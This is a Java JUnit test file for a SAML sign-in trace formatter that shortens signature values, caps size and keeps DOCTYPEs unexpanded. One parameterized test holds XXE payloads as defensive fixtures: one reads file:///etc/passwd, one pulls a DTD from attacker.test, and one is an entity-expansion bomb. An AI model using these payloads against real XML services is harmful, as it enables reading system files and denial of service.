package io.gatehouse.saml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The message the sign-in trace keeps: decoded, pretty-printed, signature values shortened, capped, never an entity expanded. */
class TraceMessageTest {
    private static final String LONG = "MIIC8DCCAdigAwIBAgIQd3b0K1c9mUuJbY4dA1b2cTANBgkqhkiG9w0BAQsFADA0MTIwMAYDVQQD";

    private static String b64(String xml) {
        return Base64.getEncoder().encodeToString(xml.getBytes(StandardCharsets.UTF_8));
    }

    private static String response(String inner) {
        return "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\""
                + " xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\" ID=\"_r1\"><ds:Signature>" + inner + "</ds:Signature></samlp:Response>";
    }

    @ParameterizedTest(name = "{0} is shortened")
    @ValueSource(strings = {"ds:SignatureValue", "ds:DigestValue", "ds:X509Certificate", "xenc:CipherValue"})
    void secretLookingValuesAreShortened(String element) {
        String message = TraceMessage.of(b64(response("<" + element + ">" + LONG + "\n" + LONG + "</" + element + ">"))).message();
        assertTrue(message.contains(LONG.substring(0, 12) + "…"), message);
        assertFalse(message.contains(LONG.substring(0, 13)), message);
    }

    @ParameterizedTest(name = "{0} on text that does not parse")
    @CsvSource({"'<ds:SignatureValue>" + LONG + "</ds:SignatureValue><unclosed>'",
            "'<SignatureValue Id=\"x\">" + LONG + "</SignatureValue><!DOCTYPE'",
            "'<a:DigestValue>" + LONG + "'"})
    void valuesAreShortenedInUnparseableText(String text) {
        TraceMessage.Traced traced = TraceMessage.of(b64(text));
        assertNull(traced.facts());
        assertTrue(traced.message().contains(LONG.substring(0, 12) + "…"), traced.message());
        assertFalse(traced.message().contains(LONG.substring(0, 13)), traced.message());
    }

    @Test
    void shortValuesStayAsTheyAre() {
        assertEquals("abc", TraceMessage.shortened(" a\nb c "));
        assertEquals("123456789012", TraceMessage.shortened("123456789012"));
        assertEquals("123456789012…", TraceMessage.shortened("1234567890123"));
    }

    @Test
    void theMessageIsPrettyPrintedAndItsFactsRead() {
        TraceMessage.Traced traced = TraceMessage.of(b64(response("<ds:SignatureValue>" + LONG + "</ds:SignatureValue>")));
        assertTrue(traced.message().contains("\n  <ds:Signature>"), traced.message());
        assertTrue(traced.message().startsWith("<samlp:Response"), traced.message());
        assertNotNull(traced.facts());
        assertEquals("_r1", traced.facts().responseId());
        assertTrue(traced.facts().responseSigned());
    }

    @ParameterizedTest(name = "external entity {0} is not read")
    @ValueSource(strings = {"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.test/x.dtd\"> %p;]><r/>",
            "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><r>&b;</r>"})
    void aDoctypeIsKeptAsTextNeverExpanded(String xml) {
        TraceMessage.Traced traced = TraceMessage.of(b64(xml));
        assertNull(traced.facts());
        assertFalse(traced.message().contains("root:"), traced.message());
        assertFalse(traced.message().contains("aaaaaaaaaaaaaaaaaaaa"), traced.message());
        assertTrue(traced.message().contains("<!DOCTYPE"), traced.message());
    }

    @ParameterizedTest(name = "not base64: {0}")
    @ValueSource(strings = {"%%%", "not base64 at all!", "<samlp:Response/>"})
    void notBase64IsSaidSo(String posted) {
        assertTrue(TraceMessage.of(posted).message().startsWith("(not base64) "));
    }

    @Test
    void nothingPostedIsNoMessage() {
        assertNull(TraceMessage.of(null).message());
        assertNull(TraceMessage.of("  ").message());
    }

    @Test
    void aLargeMessageIsCapped() {
        String big = response("<ds:KeyName>" + "x".repeat(200_000) + "</ds:KeyName>");
        String message = TraceMessage.of(b64(big)).message();
        assertTrue(message.length() < TraceMessage.MAX_CHARS + 100, "length " + message.length());
        assertTrue(message.contains("… (cut at " + TraceMessage.MAX_CHARS + " characters of "), message.substring(message.length() - 80));
    }

    @Test
    void controlCharactersAreReplaced() {
        String message = TraceMessage.of(Base64.getEncoder().encodeToString(new byte[] {'<', 'a', 0, 1, '>'})).message();
        assertEquals("<a\uFFFD\uFFFD>", message);
    }
}
